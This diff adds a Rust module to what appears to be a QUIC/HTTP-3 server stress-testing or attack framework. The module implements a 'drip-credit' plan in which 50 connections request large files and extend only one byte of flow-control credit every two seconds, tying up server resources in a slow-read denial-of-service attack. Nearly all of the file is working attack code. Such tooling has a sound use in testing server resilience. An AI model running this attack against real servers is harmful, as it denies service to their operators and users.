@@ -1,0 +1,49 @@
+//! One byte of credit now and then.
+
+use courser_wire::{Frame, MaxData, MaxStreamData, TransportParameters};
+
+use crate::attack::{Plan, Victim};
+use crate::hooks::Hooks;
+use crate::http::{self, Method};
+
+use super::{Crowd, crowd};
+
+/// How the attack is listed.
+pub(super) const PLAN: Plan = Plan {
+    name: "drip-credit",
+    labels: &["A24", "A88"],
+    summary: "requests for large files that are given one byte of credit every two seconds",
+    victim: Victim::Server,
+    make: || Box::new(drip_credit()),
+};
+
+fn drip_credit() -> Crowd {
+    Crowd::new(50, |connection, progress, _| {
+        for _ in 0..crowd::permitted(connection, progress, 100 - progress.streams.min(100)) {
+            let id = http::request_stream(progress.streams);
+            progress.streams += 1;
+            let request = http::request(Method::Get, super::LARGE);
+            connection.push_bytes(http::stream(id, 0, &request, true));
+        }
+        progress.offset += 1;
+        let limit = START + progress.offset;
+        connection.push(&Frame::MaxData(MaxData { limit }));
+        let id = http::request_stream(0);
+        connection.push(&Frame::MaxStreamData(MaxStreamData { id, limit }));
+    })
+    .with_begin(crowd::preface)
+    .with_hooks(|| Box::new(DripCredit))
+    .with_pause(std::time::Duration::from_secs(2))
+}
+
+/// Credit at first: enough for SETTINGS and the header section of a response.
+const START: u64 = 1000;
+
+struct DripCredit;
+
+impl Hooks for DripCredit {
+    fn edit_parameters(&mut self, parameters: &mut TransportParameters) {
+        parameters.initial_max_data = START;
+        parameters.initial_max_stream_data_bidi_local = START;
+    }
+}
